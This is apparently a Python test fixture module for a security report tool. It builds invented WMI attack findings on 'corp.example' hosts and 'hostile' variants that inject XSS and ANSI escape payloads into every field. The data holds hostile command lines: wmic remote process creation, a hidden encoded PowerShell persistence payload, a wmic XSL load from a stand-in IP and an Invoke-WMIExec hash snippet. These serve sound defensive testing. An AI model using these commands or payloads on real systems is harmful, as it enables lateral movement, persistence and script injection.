"""Findings, summary rows, risk entities and accounting written by hand for the report tests.

The events are invented (hosts under ``corp.example``), shaped like the story's real data:
a WMI lateral movement (wmic /node -> WmiPrvSE -> cmd), a WMI persistence subscription,
a remote XSL load, scrcons and Invoke-WmiExec. ``hostile_*`` puts HTML/JS payloads and
terminal escapes into every event field an attacker controls.
"""

from __future__ import annotations

import copy
from typing import Any

XSS_SCRIPT = "<script>alert(1)</script>"
XSS_IMG = "<img src=x onerror=alert(2)>"
XSS_SVG = '"><svg onload=alert(3)>'
ANSI = "\x1b[31mred\x1b]0;title\x07"

D3 = ("Process Execution via WMI", "24869767-8579-485d-9a4f-d9ddfd8f0cac", "TTP", 49, ["T1047"])
D4 = (
    "Remote Process Instantiation via WMI",
    "d25d2c3d-d9d8-40ec-8fdf-e86fe155a3da",
    "TTP",
    49,
    ["T1047"],
)
D5 = ("Remote WMI Command Attempt", "272df6de-61f1-4784-877c-1fbc3e2d0838", "TTP", 36, ["T1047"])
D7 = (
    "Windows WMI Process Call Create",
    "0661c2de-93de-11ec-9833-acde48001122",
    "Hunting",
    25,
    ["T1047"],
)
D1 = (
    "Detect WMI Event Subscription Persistence",
    "01d9a0c2-cece-11eb-ab46-acde48001122",
    "TTP",
    63,
    ["T1546.003"],
)
D9 = (
    "WMI Permanent Event Subscription - Sysmon",
    "ad05aae6-3b2a-4f73-af97-57bd26cee3b9",
    "TTP",
    30,
    ["T1546.003"],
)
D11 = ("WMIC XSL Execution via URL", "787e9dd0-4328-11ec-a029-acde48001122", "TTP", 80, ["T1220"])
D6 = ("Script Execution via WMI", "aa73f80d-d728-4077-b226-81ea0c8be589", "TTP", 36, ["T1047"])
D2 = (
    "PowerShell Invoke WmiExec Usage",
    "0734bd21-2769-4972-a5f1-78bb1e011224",
    "TTP",
    100,
    ["T1047"],
)

WS = "ws01.corp.example"
SRV = "srv02.corp.example"
DC = "dc01.corp.example"
ADMIN = "CORP\\adm.jdoe"


def _finding(
    fid: int,
    det: tuple[str, str, str, int, list[str]],
    message: str,
    time: str,
    dest: str,
    user: str | None,
    data_source: str,
    fields: dict[str, Any],
    evidence: dict[str, Any],
    context: dict[str, Any] | None = None,
) -> dict[str, Any]:
    name, uid, kind, risk, mitre = det
    out: dict[str, Any] = {
        "finding_id": fid,
        "detection": name,
        "detection_id": uid,
        "type": kind,
        "risk_score": risk,
        "mitre": list(mitre),
        "message": message,
        "time": time,
        "dest": dest,
        "user": user,
        "data_source": data_source,
        **fields,
        "evidence": {
            "file": evidence.get("file", "logs/sysmon.evtx"),
            "member": evidence.get("member"),
            "record_id": evidence.get("record_id"),
            "line": evidence.get("line"),
            "channel": evidence.get("channel", "Microsoft-Windows-Sysmon/Operational"),
            "event_id": evidence.get("event_id", "1"),
        },
    }
    if context:
        out["context"] = context
    return out


def _proc(name: str, cmd: str, pid: int, time: str, user: str = ADMIN) -> dict[str, Any]:
    return {"process_name": name, "process": cmd, "process_id": pid, "time": time, "user": user}


def realistic_findings() -> list[dict[str, Any]]:
    """Nine findings on three hosts, with context on the ones that have it."""
    wmic = 'wmic.exe /node:ws01.corp.example process call create "cmd.exe /c whoami > C:\\x.txt"'
    child = "cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__1700000000.25 2>&1"
    tree = {
        "ancestors": [
            _proc(
                "svchost.exe",
                "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p",
                812,
                "2024-03-11T08:02:11Z",
                "NT AUTHORITY\\SYSTEM",
            ),
            _proc(
                "WmiPrvSE.exe",
                "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
                3120,
                "2024-03-11T09:14:02Z",
                "NT AUTHORITY\\NETWORK SERVICE",
            ),
        ],
        "process": _proc("cmd.exe", child, 4404, "2024-03-11T09:14:05Z"),
        "descendants": [
            _proc("whoami.exe", "whoami", 5012, "2024-03-11T09:14:05.310Z")
            | {
                "children": [
                    _proc(
                        "conhost.exe",
                        "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
                        5020,
                        "2024-03-11T09:14:05.320Z",
                    )
                ]
            },
        ],
    }
    origin = {
        "logon_type": 3,
        "src_ip": "10.10.20.15",
        "src_workstation": "SRV02",
        "account": ADMIN,
        "logon_id": "0x3e7a1c",
        "logon_time": "2024-03-11T09:14:01Z",
        "source_command": wmic,
    }
    subscription = {
        "name": "Updater",
        "namespace": "root\\subscription",
        "query": "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA "
        "'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240",
        "consumer_type": "Command Line",
        "payload": "powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
        "creator": "CORP\\svc.backup",
        "created": "2024-03-11T10:01:44Z",
        "deleted": None,
    }
    script = {
        "script_block_id": "5e8ac2b4-2f57-4d0e-9f39-2b4e4bb2a7a1",
        "parts": 3,
        "text": "function Invoke-WMIExec {\n  param([string]$Target, [string]$Hash)\n"
        "  # ... NTLMv2 over DCOM ...\n}\nInvoke-WMIExec -Target 10.10.20.31 -Hash 'aad3b435'\n",
    }
    return [
        _finding(
            1,
            D5,
            "A wmic.exe process wmic.exe contain node commandline in host srv02",
            "2024-03-11T09:13:58Z",
            SRV,
            ADMIN,
            "sysmon",
            {
                "process": wmic,
                "process_name": "WMIC.exe",
                "process_path": "C:\\Windows\\System32\\wbem\\WMIC.exe",
                "original_file_name": "wmic.exe",
                "parent_process_name": "powershell.exe",
                "process_id": 6120,
            },
            {"record_id": 88120},
        ),
        _finding(
            2,
            D4,
            "A wmic.exe process contain process spawn commandline in host srv02",
            "2024-03-11T09:13:58Z",
            SRV,
            ADMIN,
            "sysmon",
            {
                "process": wmic,
                "process_name": "WMIC.exe",
                "parent_process_name": "powershell.exe",
                "process_id": 6120,
            },
            {"record_id": 88120},
        ),
        _finding(
            3,
            D7,
            "process with wmic process call create commandline executed in srv02",
            "2024-03-11T09:13:58Z",
            SRV,
            ADMIN,
            "sysmon",
            {"process": wmic, "process_name": "WMIC.exe", "process_id": 6120},
            {"record_id": 88120},
        ),
        _finding(
            4,
            D3,
            "WmiPrvSE.exe started cmd.exe on ws01.corp.example",
            "2024-03-11T09:14:05Z",
            WS,
            ADMIN,
            "sysmon",
            {
                "process": child,
                "process_name": "cmd.exe",
                "process_id": 4404,
                "parent_process_name": "WmiPrvSE.exe",
                "parent_process_id": 3120,
                "process_guid": "{6f1c2b3a-0001-65ee-0f01-000000000f00}",
            },
            {"file": "logs/ws01/Sysmon.evtx", "record_id": 301877},
            {"tree": tree, "origin": origin},
        ),
        _finding(
            5,
            D3,
            "WmiPrvSE.exe started cmd.exe on ws01.corp.example",
            "2024-03-11T09:16:40Z",
            WS,
            ADMIN,
            "security",
            {
                "process": "cmd.exe /Q /c net localgroup administrators",
                "process_name": "cmd.exe",
                "parent_process_name": "WmiPrvSE.exe",
                "process_id": 4980,
                "parent_inferred": True,
            },
            {
                "file": "logs/ws01/Security.evtx",
                "record_id": 912004,
                "channel": "Security",
                "event_id": "4688",
            },
        ),
        _finding(
            6,
            D1,
            "Possible malicious WMI Subscription created on dc01.corp.example",
            "2024-03-11T10:01:44Z",
            DC,
            "CORP\\svc.backup",
            "sysmon",
            {
                "name": "Updater",
                "operation": "Created",
                "consumer_type": "Command Line",
                "destination": subscription["payload"],
            },
            {"file": "logs/dc01/Sysmon.evtx", "record_id": 55102, "event_id": "20"},
            {"subscription": subscription},
        ),
        _finding(
            7,
            D9,
            "WMI Permanent Event Subscription detected on dc01 by CORP\\svc.backup",
            "2024-03-11T10:01:45Z",
            DC,
            "CORP\\svc.backup",
            "sysmon",
            {
                "consumer": 'CommandLineEventConsumer.Name="Updater"',
                "filter": '__EventFilter.Name="Updater"',
                "operation": "Created",
            },
            {"file": "logs/dc01/Sysmon.evtx", "record_id": 55103, "event_id": "21"},
            {"subscription": subscription},
        ),
        _finding(
            8,
            D11,
            "powershell.exe spawning WMIC.exe on srv02 utilizing wmic to download XSL",
            "2024-03-11T11:30:12Z",
            SRV,
            ADMIN,
            "crowdstrike",
            {
                "process": 'wmic os get /format:"https://203.0.113.7/payload.xsl"',
                "process_name": "WMIC.exe",
                "parent_process_name": "powershell.exe",
            },
            {
                "file": "logs/falcon.json.gz",
                "member": "falcon.json",
                "line": 4411,
                "channel": "CrowdStrike",
                "event_id": "ProcessRollup2",
            },
        ),
        _finding(
            9,
            D2,
            "PowerShell was identified running a Invoke-WmiExec on dc01.corp.example.",
            "2024-03-11T12:05:09Z",
            DC,
            "S-1-5-21-1004336348-1177238915-682003330-1105",
            "powershell",
            {
                "script_block_text": script["text"],
                "script_block_id": script["script_block_id"],
                "message_number": 2,
                "message_total": 3,
            },
            {
                "file": "logs/dc01/PowerShell.evtx",
                "record_id": 7741,
                "channel": "Microsoft-Windows-PowerShell/Operational",
                "event_id": "4104",
            },
            {"script": script},
        ),
    ]


def realistic_summary() -> list[dict[str, Any]]:
    """Upstream-style summary rows (one per grouping tuple)."""
    return [
        {
            "detection": D5[0],
            "detection_id": D5[1],
            "count": 1,
            "firstTime": "2024-03-11T09:13:58",
            "lastTime": "2024-03-11T09:13:58",
            "dest": SRV,
            "user": ADMIN,
            "parent_process_name": "powershell.exe",
            "process_name": "WMIC.exe",
        },
        {
            "detection": D3[0],
            "detection_id": D3[1],
            "count": 2,
            "firstTime": "2024-03-11T09:14:05",
            "lastTime": "2024-03-11T09:16:40",
            "dest": WS,
            "user": ADMIN,
            "parent_process_name": "WmiPrvSE.exe",
            "process_name": "cmd.exe",
        },
        {
            "detection": D1[0],
            "detection_id": D1[1],
            "count": 1,
            "firstTime": "2024-03-11T10:01:44",
            "lastTime": "2024-03-11T10:01:44",
            "dest": DC,
            "user": "CORP\\svc.backup",
            "destination": "powershell.exe -NoP -W Hidden -Enc SQBFAFgA",
        },
    ]


def realistic_entities() -> list[dict[str, Any]]:
    """Risk per entity, highest first."""
    return [
        {
            "entity": SRV,
            "entity_type": "host",
            "risk_total": 214,
            "detections": 4,
            "techniques": ["T1047", "T1220"],
            "flagged": True,
        },
        {
            "entity": ADMIN,
            "entity_type": "user",
            "risk_total": 312,
            "detections": 5,
            "techniques": ["T1047", "T1220"],
            "flagged": True,
        },
        {
            "entity": DC,
            "entity_type": "host",
            "risk_total": 193,
            "detections": 3,
            "techniques": ["T1047", "T1546.003"],
            "flagged": True,
        },
        {
            "entity": WS,
            "entity_type": "host",
            "risk_total": 98,
            "detections": 1,
            "techniques": ["T1047"],
            "flagged": False,
        },
        {
            "entity": "CORP\\svc.backup",
            "entity_type": "user",
            "risk_total": 30,
            "detections": 1,
            "techniques": ["T1546.003"],
            "flagged": False,
        },
    ]


def realistic_accounting() -> dict[str, Any]:
    """``ScanStats.to_dict()`` for a scan of five files, one with a rejected record."""
    files = [
        ("logs/ws01/Sysmon.evtx", "evtx", 48211, 3120, 45091, 0),
        ("logs/ws01/Security.evtx", "evtx", 120554, 2210, 118344, 0),
        ("logs/dc01/Sysmon.evtx", "evtx", 30112, 1402, 28710, 0),
        ("logs/dc01/PowerShell.evtx", "evtx", 2211, 890, 1320, 1),
        ("logs/falcon.json.gz", "jsonl", 9054, 6001, 3053, 0),
    ]
    out = []
    for path, fmt, read, norm, skipped, rejected in files:
        out.append(
            {
                "path": path,
                "format": fmt,
                "read": read,
                "normalized": norm,
                "skipped": skipped - rejected,
                "rejected": rejected,
                "errors": [{"position": "record 7790", "reason": "ScriptBlockText missing"}]
                if rejected
                else [],
                "errors_not_listed": 0,
                "warnings": [],
                "skipped_by_event": {},
            }
        )
    totals = {k: sum(f[k] for f in out) for k in ("read", "normalized", "skipped", "rejected")}
    totals |= {"files": len(out), "files_with_errors": sum(1 for f in out if f["errors"])}
    return {"files": out, "totals": totals}


def _poison(value: Any, payloads: list[str], i: int) -> Any:
    if isinstance(value, str):
        return f"{value} {payloads[i % len(payloads)]}"
    return value


def hostile_findings() -> list[dict[str, Any]]:
    """Realistic findings with XSS payloads in hosts, users, command lines and context."""
    payloads = [XSS_SCRIPT, XSS_IMG, XSS_SVG]
    out = copy.deepcopy(realistic_findings())
    hosts = {WS: f"ws01{XSS_SCRIPT}", SRV: f"srv02{XSS_SVG}", DC: f"dc01{XSS_IMG}"}
    for i, f in enumerate(out):
        f["dest"] = hosts[f["dest"]]
        f["user"] = f"CORP\\{XSS_SVG}{i}" if i % 2 else f"CORP\\u{XSS_IMG}"
        for key in (
            "process",
            "destination",
            "consumer",
            "script_block_text",
            "name",
            "parent_process_name",
            "message",
            "detection",
        ):
            if key in f:
                f[key] = _poison(f[key], payloads, i)
        f["evidence"]["file"] = _poison(f["evidence"]["file"], payloads, i + 1)
        ctx = f.get("context") or {}
        if "tree" in ctx:
            ctx["tree"]["process"]["process"] += " " + XSS_SCRIPT
            ctx["tree"]["descendants"][0]["process"] = XSS_IMG
        if "subscription" in ctx:
            ctx["subscription"]["payload"] = XSS_SVG + " " + XSS_SCRIPT
        if "script" in ctx:
            ctx["script"]["text"] += XSS_IMG + "</pre></details>" + XSS_SCRIPT
        if "origin" in ctx:
            ctx["origin"]["src_workstation"] = XSS_SVG
    return out


def hostile_entities() -> list[dict[str, Any]]:
    return [
        {
            "entity": f"srv02{XSS_SVG}",
            "entity_type": "host",
            "risk_total": 214,
            "detections": 4,
            "techniques": ["T1047"],
            "flagged": True,
        },
        {
            "entity": f"CORP\\u{XSS_IMG}",
            "entity_type": "user",
            "risk_total": 90,
            "detections": 2,
            "techniques": ["T1047"],
            "flagged": False,
        },
    ]
